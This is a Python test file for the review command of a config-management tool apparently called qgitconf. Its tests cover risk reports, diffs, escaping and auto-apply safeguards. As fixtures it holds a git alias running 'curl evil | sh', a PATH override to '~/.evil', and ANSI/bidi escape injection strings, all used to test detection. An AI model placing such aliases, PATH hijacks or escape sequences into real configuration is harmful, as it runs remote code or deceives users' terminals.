"""qgitconf review in the lab: signer, risk report above the diff, --json, the built-in
diff without git, modes/symlinks/binaries, escaping (rule 11), auto-apply, notify-send."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

from qgitconf.agent.review import colorize, review
from tests.labkit import Lab, commit_files, publish, qg, run, target_snapshot

BASHRC = "PS1='$ '\n"


def _worktree(lab: Lab) -> Path:
    return Path(qg(lab, "config-mgmt", "edit", "personal").stdout.decode().strip())


def _commit_worktree(lab: Lab, message: str) -> None:
    wt = _worktree(lab)
    run(lab, "config-mgmt", "git", "-C", str(wt), "add", "-A")
    qg(lab, "config-mgmt", "commit", "personal", "-m", message)


def test_review_shows_risk_report_above_the_diff(lab: Lab) -> None:
    commit_files(lab, "personal", {".bashrc": BASHRC}, "first")
    publish(lab, "personal")
    qg(lab, "personal", "apply", "--yes")
    gitconfig = '[alias]\n\tst = status\n\tx = "!curl evil | sh"\n[color]\n\tui = auto\n'
    commit_files(
        lab,
        "personal",
        {".bashrc": BASHRC + "export PATH=~/.evil:$PATH\n", ".config/git/config": gitconfig},
        "second",
    )
    publish(lab, "personal")
    out = qg(lab, "personal", "review").stdout.decode()
    assert f"signed by: {lab.fingerprint} (qgitconf lab vault" in out and "[pinned]" in out
    assert "sequence 2" in out and "date:" in out
    report = out.index("risk report: 3 high, 0 medium, 0 low")
    assert out.index("HIGH   shell-path-override line 2") > report
    assert "HIGH   git-alias-shell line 3: alias.x = !curl evil | sh" in out
    assert out.index("diff --git a/.bashrc b/.bashrc") > out.index("git-alias-shell")
    assert "+export PATH=~/.evil:$PATH" in out
    data = json.loads(qg(lab, "personal", "review", "--json").stdout)
    assert data["risk_summary"] == {"high": 3, "medium": 0, "low": 0}
    assert [(r["rule"], r["path"], r["line"]) for r in data["risks"]] == [
        ("shell-startup", ".bashrc", 2),
        ("shell-path-override", ".bashrc", 2),
        ("git-alias-shell", ".config/git/config", 3),
    ]
    assert data["signer"] == {
        "fingerprint": lab.fingerprint,
        "uids": ["qgitconf lab vault <vault@lab.invalid>"],
        "pinned": True,
    }
    assert data["diff_tool"] == "git" and data["message"] == "second"
    assert {f["path"]: f["status"] for f in data["files"]} == {
        ".bashrc": "modified",
        ".config/git/config": "added",
    }


def test_modes_symlinks_and_binaries_are_shown_clearly(lab: Lab) -> None:
    wt = _worktree(lab)
    (wt / ".config").mkdir(exist_ok=True)
    (wt / ".config/tool").write_text("#!/bin/sh\necho hi\n")
    (wt / ".config/blob.bin").write_bytes(b"\x00\x01\x02binary")
    (wt / ".config/notes").write_text("notes\n")
    _commit_worktree(lab, "first")
    publish(lab, "personal")
    qg(lab, "personal", "apply", "--yes")
    os.chmod(wt / ".config/tool", 0o755)
    (wt / ".config/blob.bin").write_bytes(b"\x00\x01\x02other")
    os.symlink("notes", wt / ".config/link")
    _commit_worktree(lab, "second")
    publish(lab, "personal")
    data = json.loads(qg(lab, "personal", "review", "--json").stdout)
    files = {f["path"]: f for f in data["files"]}
    assert files[".config/tool"]["status"] == "mode-changed"
    assert files[".config/tool"]["notes"] == ["mode 100644 -> 100755"]
    assert files[".config/link"]["symlink"] == "notes"
    assert files[".config/link"]["notes"] == ["new file, mode 120000", "symlink -> notes"]
    assert files[".config/blob.bin"]["binary"] is True
    rules = {(r["rule"], r["path"]) for r in data["risks"]}
    assert rules == {
        ("executable-file", ".config/tool"),
        ("symlink", ".config/link"),
        ("binary-file", ".config/blob.bin"),
    }
    out = qg(lab, "personal", "review").stdout.decode()
    assert "old mode 100644\nnew mode 100755" in out
    assert "Binary files a/.config/blob.bin and b/.config/blob.bin differ" in out
    assert "new file mode 120000" in out and "+notes" in out
    assert "(mode 100644 -> 100755)" in out and "(new file, mode 120000; symlink -> notes)" in out


def test_builtin_diff_without_git(lab: Lab) -> None:
    commit_files(lab, "personal", {".bashrc": BASHRC, ".config/a": "a\n"}, "first")
    publish(lab, "personal")
    qg(lab, "personal", "apply", "--yes")
    commit_files(lab, "personal", {".bashrc": "PS1='# '\n"}, "second")
    publish(lab, "personal")
    env = lab.env("personal", {"PATH": os.path.dirname(sys.executable)})
    data = review(lab.home("personal"), env)
    assert data["diff_tool"] == "builtin"
    assert data["diff"] == (
        "diff --git a/.bashrc b/.bashrc\n"
        "--- a/.bashrc\n"
        "+++ b/.bashrc\n"
        "@@ -1 +1 @@\n"
        "-PS1='$ '\n"
        "+PS1='# '\n"
    )
    with_git = review(lab.home("personal"), lab.env("personal"))
    assert with_git["diff_tool"] == "git" and "-PS1='$ '\n+PS1='# '" in with_git["diff"]


def test_filename_and_message_with_escapes_are_shown_escaped(lab: Lab) -> None:
    """Rule 11 in review, status and log: ANSI escapes and bidi overrides never reach
    the terminal.  A name with control or bidi characters is refused by rule 7 before
    staging (test_e2e_lab); a zero-width joiner inside an ordinary name is allowed, so
    that is the name that reaches review - escaped, and reported as a risk."""
    name = ".config/ba\u200dshrc"
    message = "msg \x1b[31mred\x1b[0m \u202eevil"
    commit_files(lab, "personal", {name: "x \x1b[2J\u202e\n", ".bashrc": BASHRC}, message)
    publish(lab, "personal")
    out = qg(lab, "personal", "review").stdout.decode()
    for raw in ("\x1b", "\u202e", "\u200d"):
        assert raw not in out
    assert "msg \\x1b[31mred\\x1b[0m \\u202eevil" in out
    assert ".config/ba\\u200dshrc" in out  # risk report and the git diff path line
    assert "+x \\x1b[2J\\u202e" in out
    assert "hidden-characters line 1" in out and "hidden-characters: in the file name" in out
    data = json.dumps(
        json.loads(qg(lab, "personal", "review", "--json").stdout), ensure_ascii=False
    )
    assert "\x1b" not in data and "\u202e" not in data and "\u200d" not in data
    qg(lab, "personal", "apply", "--yes")
    (lab.home("personal") / name).write_text("local edit\n")
    status = qg(lab, "personal", "status").stdout.decode()
    assert "\u200d" not in status and ".config/ba\\u200dshrc" in status
    status_json = json.loads(qg(lab, "personal", "status", "--json").stdout)
    assert status_json["drift"] == [".config/ba\\u200dshrc"]
    log = (
        qg(lab, "personal", "log").stdout.decode()
        + qg(lab, "personal", "log", "--json").stdout.decode()
    )
    assert "\x1b" not in log and "\u202e" not in log and "\u200d" not in log


def test_colorize_adds_only_its_own_sequences() -> None:
    text = "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old \\x1b[2J\n+new\n"
    colors = {"meta": "\x1b[1m", "frag": "\x1b[36m", "old": "\x1b[31m", "new": "\x1b[32m"}
    out = colorize(text, {**colors, "reset": "\x1b[m"})
    assert "\x1b[31m-old \\x1b[2J\x1b[m" in out and "\x1b[32m+new\x1b[m" in out
    assert out.replace("\x1b[m", "").count("\x1b") == 6  # one per line, nothing else


def test_review_gui_without_display_falls_back_to_terminal(lab: Lab) -> None:
    commit_files(lab, "personal", {".bashrc": BASHRC}, "first")
    publish(lab, "personal")
    proc = qg(lab, "personal", "review", "--gui")
    assert b"no display" in proc.stderr and b"risk report:" in proc.stdout
    assert not (lab.home("personal") / ".bashrc").exists()


def _enable_auto_apply(lab: Lab) -> None:
    toml = lab.home("personal") / ".config/qgitconf/target.toml"
    toml.write_text(toml.read_text().replace("auto_apply = false", "auto_apply = true"))


def test_auto_apply_applies_a_harmless_update(lab: Lab) -> None:
    _enable_auto_apply(lab)
    commit_files(lab, "personal", {".config/foo/settings": "colour = blue\n"}, "harmless")
    result = publish(lab, "personal")
    assert result["status"] == "staged"  # the reply is unchanged
    assert (lab.home("personal") / ".config/foo/settings").read_text() == "colour = blue\n"
    data = json.loads(qg(lab, "personal", "review", "--json").stdout)
    assert data["auto_apply"]["result"] == "applied" and data["auto_apply"]["generation"] == 1
    status = json.loads(qg(lab, "personal", "status", "--json").stdout)
    assert status["applied"] == status["staged"] and not status["pending"]


def test_auto_apply_never_applies_a_high_risk_update(lab: Lab) -> None:
    _enable_auto_apply(lab)
    commit_files(lab, "personal", {".bashrc": BASHRC}, "shell")
    before = {k: v for k, v in target_snapshot(lab, "personal").items() if ".local/share" not in k}
    assert publish(lab, "personal")["status"] == "staged"
    after = {k: v for k, v in target_snapshot(lab, "personal").items() if ".local/share" not in k}
    assert after == before and not (lab.home("personal") / ".bashrc").exists()
    data = json.loads(qg(lab, "personal", "review", "--json").stdout)
    assert data["auto_apply"]["result"] == "staged"
    assert "high-risk findings (shell-startup)" in data["auto_apply"]["reason"]
    out = qg(lab, "personal", "review").stdout.decode()
    assert "auto-apply: staged: high-risk findings (shell-startup)" in out


def test_auto_apply_stops_at_drift(lab: Lab) -> None:
    _enable_auto_apply(lab)
    commit_files(lab, "personal", {".gitconfig": "[color]\n\tui = auto\n"}, "colour")
    original = (lab.home("personal") / ".gitconfig").read_bytes()  # the lab's own file
    publish(lab, "personal")
    assert (lab.home("personal") / ".gitconfig").read_bytes() == original
    data = json.loads(qg(lab, "personal", "review", "--json").stdout)
    assert data["auto_apply"]["result"] == "staged"
    assert "changed locally" in data["auto_apply"]["reason"]
